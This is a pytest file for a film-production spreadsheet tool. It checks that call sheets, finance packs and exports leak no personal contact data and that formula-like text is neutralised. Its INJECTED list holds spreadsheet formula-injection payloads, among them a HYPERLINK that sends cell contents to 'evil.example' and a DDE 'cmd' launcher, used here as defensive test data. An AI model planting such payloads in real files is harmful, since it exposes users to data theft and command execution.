"""Nothing leaked: each output carries only what its audience may see, exports never carry live formulas, and no
message, log line or Issues tab prints a phone number or an e-mail address.

The production here is the base production with every personal value made distinctive (phones, e-mails, agents,
emergency contacts, dates of birth, day rates, location contacts, the key people's phones), so a scan of every
cell of a written file finds any of them that got through, as text, number or date.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

import xlproduction.checks as checks_module
from xlproduction.cli import app
from xlproduction.jobs.callsheets import tab_name
from xlproduction.model.contract import CAST, CREW, LOCATIONS, SETTINGS_KEYS
from xlproduction.model.tabledata import ProductionData
from xlproduction.workbook.reader import load_production
from xlproduction.workbook.safety import FORMULA_STARTS
from xlproduction.workbook.writer import write_workbook

from .checks_memo import shared_checks
from .rules.base import base_data

runner = CliRunner()


@pytest.fixture(scope="module", autouse=True)
def _rules_once() -> Iterator[None]:
    with shared_checks():
        yield

CAST_RATES = {"1": 1013.37, "2": 817.19, "3": 611.23}
CREW_RATES = {"Uma Manager": 703.11, "Adam First": 651.07, "Dana Photo": 902.13, "Sam Sound": 599.41,
              "Gus Grip": 501.17, "Cat Ering": 401.09}  # fmt: skip
INJECTED = ('=HYPERLINK("http://evil.example/?"&A1,"Invoice")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
            "\t=1+1", "＝1+1")  # fmt: skip


def personal_data() -> ProductionData:
    d = base_data()
    for i, r in enumerate(d.tables["Cast"], start=1):
        r.update(phone=f"+1 310 555 02{i:02d}", email=f"performer{i}@castmail.example",
                 agent=f"Agentur Nummer{i}", agent_phone=f"+1 310 555 03{i:02d}",
                 emergency_contact=f"Kinperson Cast{i}", emergency_phone=f"+1 323 555 04{i:02d}",
                 date_of_birth=dt.date(1990, 5, 10 + i), day_rate=CAST_RATES[r["cast_id"]])  # fmt: skip
    for i, r in enumerate(d.tables["Crew"], start=1):
        r.update(phone=f"+1 310 555 05{i:02d}", email=f"crew{i}@crewmail.example",
                 emergency_contact=f"Kinperson Crew{i}", emergency_phone=f"+1 323 555 06{i:02d}",
                 day_rate=CREW_RATES[r["name"]])  # fmt: skip
    for i, r in enumerate(d.tables["Locations"], start=1):
        r.update(contact=f"Locowner Person{i}", contact_phone=f"+1 213 555 07{i:02d}")
    for line in d.tables["Budget"]:  # the budget carries the same deals
        link = str(line.get("link") or "")
        if link.startswith("cast "):
            line["rate"] = CAST_RATES[link.split()[1]]
        elif link.startswith("crew "):
            line["rate"] = CREW_RATES[link[5:]]
    d.tables["Actuals"][0]["vendor"] = INJECTED[0]
    d.tables["Actuals"][1]["description"] = INJECTED[3]
    d.tables["Budget"][-1]["description"] = INJECTED[1]
    d.tables["Crew"][4]["position"] = "Key Grip " + INJECTED[2]  # not at the start: stays as it is
    d.tables["Crew"][5]["position"] = INJECTED[3]
    d.tables["Cast"][2]["character"] = INJECTED[4]
    d.settings.update(producer_phone="+1 310 555 0881", upm_phone="+1 310 555 0882",
                      first_ad_phone="+1 310 555 0883", coordinator_phone="+1 310 555 0884",
                      coordinator_email="coordinator@officemail.example")  # fmt: skip
    return d


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_workbook(tmp_path_factory.mktemp("leaks") / "personal.xlsx", personal_data())


def personal(data: ProductionData) -> dict[tuple[str, str], list[Any]]:
    """(table, column key) -> the values of every personal column (contract ``personal=True``), and the personal
    settings under ("Settings", key)."""
    out: dict[tuple[str, str], list[Any]] = {}
    for spec in (CAST, CREW, LOCATIONS):
        for col in spec.columns:
            if col.personal:
                vals = [r.get(col.key) for r in data.tables[spec.name] if r.get(col.key) not in (None, "")]
                out[(spec.name, col.key)] = vals
    for s in SETTINGS_KEYS:
        if s.personal and data.settings.get(s.key):
            out[("Settings", s.key)] = [data.settings[s.key]]
    return out


def cells(path: Path, sheets: list[str] | None = None) -> Iterator[tuple[str, Any]]:
    wb = load_workbook(path, read_only=True)
    try:
        for name in wb.sheetnames:
            if sheets is None or name in sheets:
                for i, row in enumerate(wb[name].iter_rows(values_only=True), start=1):
                    for j, v in enumerate(row, start=1):
                        if v is not None:
                            yield f"{name}!R{i}C{j}", v
    finally:
        wb.close()


def _matches(value: Any, secret: Any) -> bool:
    if isinstance(secret, str):
        return isinstance(value, str) and secret.casefold() in value.casefold()
    if isinstance(secret, float):
        return isinstance(value, (int, float)) and not isinstance(value, bool) and abs(value - secret) < 0.005
    if isinstance(secret, dt.date):
        day = value.date() if isinstance(value, dt.datetime) else value
        return day == secret or (isinstance(value, str) and secret.isoformat() in value)
    return False


KEY_PEOPLE = ("producer", "director", "upm", "first_ad", "coordinator")


def leaks(path: Path, allowed: set[tuple[str, str]], sheets: list[str] | None = None) -> list[str]:
    data = personal_data()
    # The key people the production names in Settings (producer, director, UPM…) head every call sheet: their
    # names are published there, whoever else is on the crew list.
    published = {str(data.settings.get(k)) for k in KEY_PEOPLE if data.settings.get(k)}
    secrets = {k: [v for v in vals if v not in published] for k, vals in personal(data).items() if k not in allowed}
    found = []
    for where, value in cells(path, sheets):
        for key, vals in secrets.items():
            for s in vals:
                if _matches(value, s):
                    found.append(f"{where} holds {key[0]}.{key[1]} ({s!r}): {value!r}"[:200])
    return found


# --- the finance pack -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("rates", [False, True], ids=["rates withheld", "finance may see rates"])
def test_the_finance_pack_holds_no_personal_value(rates: bool, workbook: Path, tmp_path: Path) -> None:
    path = workbook
    if rates:
        d = personal_data()
        d.settings["finance_may_see_rates"] = True
        path = write_workbook(tmp_path / "rates.xlsx", d)
    pack = tmp_path / "finance.xlsx"
    r = runner.invoke(app, ["finance-pack", str(path), str(pack)])
    assert r.exit_code == 0, r.output
    # With the setting, finance runs the payroll: names and rates may travel, nothing else.
    allowed = {("Cast", "performer"), ("Crew", "name"), ("Cast", "day_rate"), ("Crew", "day_rate")} if rates else set()
    assert leaks(pack, allowed) == []
    assert sum(1 for _ in cells(pack)) > 100, "the pack is not empty"


# --- the call sheets -----------------------------------------------------------------------------------------------

NEVER = set()  # no audience sees these: the rest of the contract's personal columns
CALLSHEET_ALLOWED = {
    # the crew version: everything a crew member needs on the day
    "crew": {("Cast", "performer"), ("Crew", "name"), ("Crew", "phone"), ("Locations", "contact"),
             ("Locations", "contact_phone"), ("Settings", "producer_phone"), ("Settings", "upm_phone"),
             ("Settings", "first_ad_phone"), ("Settings", "coordinator_phone"), ("Settings", "coordinator_email")},
    # the cast version: names, no crew phones, no location contact, no key people's phones
    "cast": {("Cast", "performer"), ("Crew", "name")},
    # the client version: who plays whom, nothing else
    "client": {("Cast", "performer")},
}  # fmt: skip


@pytest.mark.parametrize("audience", ["crew", "cast", "client"])
def test_each_call_sheet_audience_carries_only_what_it_may_see(audience: str, workbook: Path,
                                                               tmp_path: Path) -> None:  # fmt: skip
    out = tmp_path / f"{audience}.xlsx"
    r = runner.invoke(app, ["callsheet", str(workbook), "--all", "--audience", audience, "-o", str(out)])
    assert r.exit_code == 0, r.output
    tabs = [tab_name(day["day"], day["date"], audience) for day in personal_data().tables["Days"]]
    assert set(tabs) <= set(load_workbook(out, read_only=True).sheetnames)
    assert leaks(out, CALLSHEET_ALLOWED[audience], tabs) == []
    if audience == "crew":  # the check works: the crew version does carry the crew's phones
        assert leaks(out, set(), tabs), "the scan found nothing even where phones belong"


# --- exports neutralise formula-like text ---------------------------------------------------------------------


def test_csv_exports_neutralise_formula_like_text(workbook: Path, tmp_path: Path) -> None:
    for kind in ("cost", "crew", "dood"):
        out = tmp_path / f"{kind}.csv"
        r = runner.invoke(app, ["report", kind, str(workbook), "--no-workbook", "--csv", str(out)])
        assert r.exit_code == 0, r.output
        with out.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for field in row:
                    assert not field.startswith(FORMULA_STARTS), f"{kind}.csv: {field!r}"
    crew = (tmp_path / "crew.csv").read_text(encoding="utf-8-sig")
    dood = (tmp_path / "dood.csv").read_text(encoding="utf-8-sig")
    assert "'@cmd" in crew and "'=1+1" in dood, "the injected texts reached the CSVs, quoted"


def test_xlsx_exports_hold_no_formula_made_of_user_text(workbook: Path, tmp_path: Path) -> None:
    outputs = []
    for kind in ("cost", "crew", "dood"):
        out = tmp_path / f"{kind}.xlsx"
        assert runner.invoke(app, ["report", kind, str(workbook), "--no-workbook", "--xlsx", str(out)]).exit_code == 0
        outputs.append(out)
    pack = tmp_path / "finance.xlsx"
    assert runner.invoke(app, ["finance-pack", str(workbook), str(pack)]).exit_code == 0
    outputs.append(pack)
    seen = 0
    for out in outputs:
        wb = load_workbook(out)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if not isinstance(c.value, str):
                        continue
                    if any(marker in c.value for marker in ("HYPERLINK", "cmd|", "SUM(1,2)", "1+1")):
                        seen += 1
                        assert c.data_type == "s", f"{out.name} {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                        if c.value.startswith(FORMULA_STARTS):
                            assert c.quotePrefix, f"{out.name} {ws.title}!{c.coordinate} lacks the quote prefix"
    assert seen >= 3, "the injected texts reached the exports"


def test_the_issues_tab_holds_no_formula_made_of_user_text(workbook: Path, tmp_path: Path) -> None:
    wb = load_workbook(workbook)
    ws = next(w for w in wb.worksheets if "Scenes" in w.tables)
    ws.title = "=1+1 Scenes"
    ws["E3"] = "+SUM(1,2) pages"
    path = tmp_path / "renamed.xlsx"
    wb.save(path)
    out = tmp_path / "checked.xlsx"
    assert runner.invoke(app, ["check", str(path), "--write", "-o", str(out)]).exit_code == 1
    issues = load_workbook(out)["Issues"]
    for row in issues.iter_rows(min_row=4):
        for c in row:
            assert c.data_type != "f", f"Issues!{c.coordinate} is a formula: {c.value!r}"


# --- messages never print a phone number or an e-mail address ----------------------------------------------------

BAD_PHONES = ["+1 (310) 555-01x9", "555 0101 ext", "0044 20 7946 0958", "310.555.0177!", "+1 310 555 0188 / 0189",
              "(213) 555-0166 call after 6"]  # fmt: skip
BAD_EMAILS = ["ana@@castmail.example", "ben at castmail.example", "cleo@castmail", "dana@crew mail.example",
              "gus@crewmail..example", "cat@"]  # fmt: skip


@pytest.fixture(scope="module")
def bad_contacts(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = personal_data()
    for i, r in enumerate(d.tables["Cast"]):
        r.update(phone=BAD_PHONES[i], email=BAD_EMAILS[i], agent_phone=BAD_PHONES[i + 3],
                 emergency_phone=BAD_PHONES[(i + 1) % 6])  # fmt: skip
    for i, r in enumerate(d.tables["Crew"]):
        r.update(phone=BAD_PHONES[i], email=BAD_EMAILS[i], emergency_phone=BAD_PHONES[(i + 2) % 6])
    d.tables["Locations"][0]["contact_phone"] = BAD_PHONES[3]
    d.settings.update(coordinator_phone=BAD_PHONES[4], coordinator_email=BAD_EMAILS[0])
    # Personal values typed into the wrong columns, where a parser quotes what it could not read.
    d.tables["Crew"][0]["start_date"] = "+1 310 555 0199"
    d.tables["Cast"][0]["day_rate"] = "pay@agencymail.example"
    d.tables["Days"][0]["crew_call"] = "call 310-555-0142"
    d.tables["Cast"][1]["minor"] = "ask ben@castmail.example"
    return write_workbook(tmp_path_factory.mktemp("contacts") / "contacts.xlsx", d)


def _secrets() -> list[str]:
    extra = ["+1 310 555 0199", "pay@agencymail.example", "310-555-0142", "ben@castmail.example"]
    return BAD_PHONES + BAD_EMAILS + extra + [v for vals in personal(personal_data()).values() for v in vals
                                              if isinstance(v, str) and ("@" in v or re.search(r"\d{3}", v))]


def _digit_runs(text: str) -> set[str]:
    return {re.sub(r"\D", "", m) for m in re.findall(r"\+?\d[\d\s().\-/]{5,}\d", text)}


def assert_no_contact(text: str, where: str) -> None:
    for s in _secrets():
        core = s.split(" call")[0].split(" ext")[0].rstrip("!")
        assert core.casefold() not in text.casefold(), f"{where} prints {s!r}"
        digits = re.sub(r"\D", "", core)
        if len(digits) >= 7:
            assert not any(digits[-7:] in run for run in _digit_runs(text)), f"{where} prints the digits of {s!r}"
        if "@" in s:
            local = s.split("@")[0]
            assert f"{local}@" not in text, f"{where} prints the address {s!r}"


def test_findings_never_quote_a_phone_or_an_email(bad_contacts: Path) -> None:
    findings = checks_module.run_checks(load_production(bad_contacts))
    codes = {f.code for f in findings}
    assert {"PE001", "PE002", "ST003"} <= codes, codes  # the bad values were found…
    for f in findings:  # …and named by their cell, not quoted
        assert_no_contact(f"{f.message} {f.hint} {f.location}", f"{f.code} {f.location}")


def test_no_command_output_and_no_issues_tab_prints_a_phone_or_an_email(bad_contacts: Path, tmp_path: Path) -> None:
    outputs: dict[str, str] = {}
    for name, args in {
        "check": ["check", str(bad_contacts)],
        "check-json": ["check", str(bad_contacts), "-f", "json"],
        "check-write": ["check", str(bad_contacts), "--write", "-o", str(tmp_path / "checked.xlsx")],
        "callsheet": ["callsheet", str(bad_contacts), "--all", "-o", str(tmp_path / "cs.xlsx")],
        "dood": ["report", "dood", str(bad_contacts), "-o", str(tmp_path / "dood.xlsx")],
        "cost": ["report", "cost", str(bad_contacts), "--no-workbook"],
        "finance-pack": ["finance-pack", str(bad_contacts), str(tmp_path / "fp.xlsx")],
    }.items():
        r = runner.invoke(app, args)
        assert r.exit_code in (0, 1), (name, r.output)
        outputs[name] = r.output
    for name, text in outputs.items():
        assert_no_contact(text, f"`{name}` output")
    doc = json.loads(outputs["check-json"])
    assert doc["findings"], "the JSON lists the findings"
    issues = " ".join(str(v) for _, v in cells(tmp_path / "checked.xlsx", ["Issues"]))
    assert "PE002" in issues
    assert_no_contact(issues, "the Issues tab")


def test_an_unexpected_error_message_is_masked_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The last line of defence quotes the exception; an exception quoting a cell must not print its phone."""
    import xlproduction.workbook.reader as reader

    def boom(*_: object, **__: object) -> None:
        raise ValueError("could not convert string to float: '+1 310 555 0199' (ana@castmail.example)")

    monkeypatch.setattr(reader, "load_production", boom)
    path = tmp_path / "any.xlsx"
    path.write_bytes(b"")
    r = runner.invoke(app, ["check", str(path)])
    assert r.exit_code == 2
    assert "xlproduction failed" in r.output
    assert "555 0199" not in r.output and "ana@castmail" not in r.output, r.output
